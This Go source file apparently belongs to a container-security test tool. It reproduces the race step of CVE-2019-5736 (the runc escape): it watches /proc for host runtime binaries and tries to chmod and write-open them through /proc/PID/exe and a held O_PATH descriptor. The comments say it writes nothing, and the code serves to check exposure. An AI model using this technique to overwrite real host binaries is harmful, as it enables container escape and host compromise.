package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// target is a file the attack is after, named by device and inode.
type target struct{ dev, ino uint64 }

// parseTargets reads DEV:INO[,DEV:INO...].
func parseTargets(s string) (map[target]bool, error) {
	out := map[target]bool{}
	for _, one := range strings.Split(s, ",") {
		d, i, ok := strings.Cut(one, ":")
		dev, err1 := strconv.ParseUint(d, 10, 64)
		ino, err2 := strconv.ParseUint(i, 10, 64)
		if !ok || err1 != nil || err2 != nil {
			return nil, fmt.Errorf("bad DEV:INO %q", one)
		}
		out[target{dev, ino}] = true
	}
	return out, nil
}

// exeAttack is CVE-2019-5736's first step: watch /proc for any process
// whose executable is a target (the runtime's programs on the host: pause,
// or a container init before it execs the user command), and through its
// /proc/PID/exe try to chmod the target and open it for writing. It keeps
// an O_PATH descriptor of the first hit, which outlives the race window,
// and retries through that at the end. Nothing is ever written: chmod sets
// the mode the file already has, and a write open is closed at once.
func exeAttack(args []string) error {
	tgts, err := parseTargets(args[0])
	if err != nil {
		return err
	}
	d, err := seconds(args[1])
	if err != nil {
		return err
	}
	a := &exeAttacker{tgts: tgts, seen: map[int]bool{}, held: -1}
	fmt.Printf("watching /proc for %s\n", args[0])
	for end := time.Now().Add(d); time.Now().Before(end); {
		a.scan()
		time.Sleep(300 * time.Microsecond)
	}
	a.retryHeld()
	fmt.Printf("exe-attack: reached the target through %d processes\ndone\n", len(a.seen))
	return nil
}

type exeAttacker struct {
	tgts map[target]bool
	seen map[int]bool // pids whose exe was a target
	held int          // O_PATH fd of a target, or -1
	mode uint32       // the held target's mode
}

// scan tries every process in /proc once.
func (a *exeAttacker) scan() {
	ents, err := os.ReadDir("/proc")
	if err != nil {
		return
	}
	self := os.Getpid()
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == self || a.seen[pid] {
			continue
		}
		a.try(pid)
	}
}

func (a *exeAttacker) try(pid int) {
	p := "/proc/" + strconv.Itoa(pid) + "/exe"
	var st unix.Stat_t
	if unix.Stat(p, &st) != nil || !a.tgts[target{st.Dev, st.Ino}] {
		return
	}
	a.seen[pid] = true
	mode := st.Mode & 0o7777
	fmt.Printf("pid %d: %s is the target\n", pid, p)
	report(pid, "chmod", unix.Chmod(p, mode))
	report(pid, "open for writing", openClose(p, unix.O_WRONLY))
	if a.held < 0 {
		if fd, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
			a.held, a.mode = fd, mode
			fmt.Printf("pid %d: holding an O_PATH fd of the target\n", pid)
		}
	}
}

// retryHeld uses the descriptor kept from the race: no ptrace check guards
// our own /proc/self/fd.
func (a *exeAttacker) retryHeld() {
	if a.held < 0 {
		return
	}
	p := "/proc/self/fd/" + strconv.Itoa(a.held)
	report(-1, "chmod through the held fd", unix.Chmod(p, a.mode))
	report(-1, "open for writing through the held fd", openClose(p, unix.O_WRONLY))
}

func openClose(p string, flags int) error {
	fd, err := unix.Open(p, flags|unix.O_CLOEXEC, 0)
	if err == nil {
		unix.Close(fd)
	}
	return err
}

func report(pid int, what string, err error) {
	who := "held"
	if pid >= 0 {
		who = "pid " + strconv.Itoa(pid)
	}
	if err != nil {
		fmt.Printf("%s: %s: %s\n", who, what, errno(err))
		return
	}
	fmt.Printf("%s: %s: OK\n", who, what)
}
